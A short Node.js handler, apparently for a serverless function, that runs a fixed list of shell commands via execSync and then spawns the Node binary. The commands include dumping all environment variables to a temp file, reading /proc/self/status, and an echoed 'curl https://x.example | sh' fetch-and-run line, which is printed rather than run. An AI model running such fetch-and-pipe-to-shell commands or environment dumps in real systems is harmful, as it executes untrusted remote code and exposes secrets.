import { execSync, spawnSync } from 'node:child_process';

const LINES = [
  'cat /var/task/data.json 2>/dev/null | python3 -m json.tool || true',
  'echo NETCDF:/tmp/x.nc -co COMPRESS=LZW -e /tmp/y.tif',
  'env | sort > /tmp/env.txt; wc -l < /tmp/env.txt',
  "echo 'curl https://x.example | sh'",
  'grep -c environ /proc/self/status || true',
];

export const handler = async () => {
  for (const line of LINES) execSync(line);
  const env = { ...process.env, NODE_OPTIONS: '--report-directory=/tmp/reports' };
  spawnSync(process.execPath, ['--version'], { env });
  return 'ok';
};
